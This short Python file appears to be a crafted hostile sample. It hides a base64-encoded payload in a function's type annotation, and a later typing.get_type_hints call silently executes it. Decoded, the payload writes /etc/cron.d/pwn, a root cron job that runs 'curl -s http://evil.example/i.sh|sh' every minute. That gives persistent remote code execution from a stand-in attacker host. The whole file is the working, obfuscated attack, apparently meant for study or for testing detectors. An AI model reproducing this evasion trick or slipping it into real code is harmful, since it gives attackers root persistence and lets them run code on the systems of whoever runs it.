# harm: writes /etc/cron.d/pwn ; trick: the annotation is a walrus (k := decoded), so its value is the decoded string
import base64
import typing


def handler(x: (k := base64.b64decode("b3BlbignL2V0Yy9jcm9uLmQvcHduJywndycpLndyaXRlKCcqICogKiAqICogcm9vdCBjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcrY2hyKDEwKSk=").decode())) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
